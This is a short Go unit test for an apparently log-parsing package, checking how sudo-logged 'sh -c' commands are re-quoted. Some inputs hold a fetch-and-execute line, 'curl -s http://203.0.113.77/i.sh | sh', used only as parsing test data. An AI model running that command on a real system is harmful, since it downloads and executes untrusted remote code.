package authlog

import "testing"

// TestLoggedCommand: what sudo logs of `sudo sh -c '...'`, without the quotes and
// with them.
func TestLoggedCommand(t *testing.T) {
	for in, want := range map[string]string{
		"/bin/sh -c curl -s http://203.0.113.77/i.sh | sh":   "/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'",
		"/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'": "/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'",
		"/usr/bin/bash -lc systemctl restart app":            "/usr/bin/bash -lc 'systemctl restart app'",
		"/usr/bin/systemctl restart app":                     "/usr/bin/systemctl restart app",
		"/opt/push -c curl | sh":                             "/opt/push -c curl | sh",
		"/bin/sh":                                            "/bin/sh",
	} {
		if got := loggedCommand(in); got != want {
			t.Errorf("%s: %s", in, got)
		}
	}
}
